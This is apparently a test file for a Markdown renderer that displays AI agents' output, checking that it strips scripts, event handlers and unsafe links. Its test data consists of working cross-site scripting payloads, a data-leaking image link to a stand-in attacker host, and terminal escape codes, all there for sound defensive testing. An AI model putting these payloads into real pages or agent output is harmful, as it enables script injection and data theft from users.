// Markdown of agents is harmless; tests/browser checks the same in a real browser.
import { expect, test } from 'vitest'
import { html } from './markdown'

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['a picture', '![x](https://evil.example/?leak=1)'],
  ['a picture as HTML', '<img src=x onerror=alert(1)>'],
  ['a script link', '[click](javascript:alert(1))'],
  ['a script link in disguise', '[click](java&#x73;cript:alert(1))'],
  ['a data link', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a way out of an attribute', '[click](https://a.example/"onmouseover="alert(1))'],
  ['a style', '<style>*{display:none}</style>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a drawing', '<svg><animate onbegin=alert(1) attributeName=x></svg>'],
  ['a form', '<form action="/api/v1/allstop"><button>ok</button></form>'],
  ['HTML in a code block', '```\n<script>alert(1)</script>\n```'],
  ['HTML in a heading', '# <img src=x onerror=alert(1)>'],
])('%s does nothing', (_, payload) => {
  const holder = document.createElement('div')
  holder.innerHTML = String(html(payload))

  expect(holder.querySelectorAll('script,img,style,iframe,svg,form,button,input')).toHaveLength(0)
  for (const element of holder.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|style|src/)
      if (name === 'href') expect(value).toMatch(/^(https?|mailto):/)
    }
  }
})

// happy-dom drops the first element when sanitizing, so each text starts with a paragraph.
const after = (markdown: string) =>
  String(html(`first\n\n${markdown}`))
    .split('\n')
    .slice(1)
    .join('\n')

test('a link opens in a new tab without a referrer', () => {
  expect(after('[docs](https://docs.example/a)')).toBe(
    '<p><a href="https://docs.example/a" rel="noopener noreferrer nofollow" target="_blank">docs</a></p>\n',
  )
})

test('Markdown is rendered, with headings below those of the page', () => {
  expect(after('# Title\n\n- **a**\n- `b`')).toBe(
    '<h3>Title</h3>\n<ul>\n<li><strong>a</strong></li>\n<li><code>b</code></li>\n</ul>\n',
  )
})

test('raw HTML and hidden characters are visible text', () => {
  expect(after('a <b>c</b> d\u202e')).toBe('<p>a &lt;b&gt;c&lt;/b&gt; d⟨U+202E⟩</p>\n')
})

test('terminal codes are removed', () => {
  expect(after('a \x1b]0;owned\x07\x1b[31mred\x1b[0m\x1b[2J b\x9b1A')).toBe('<p>a red b</p>\n')
})
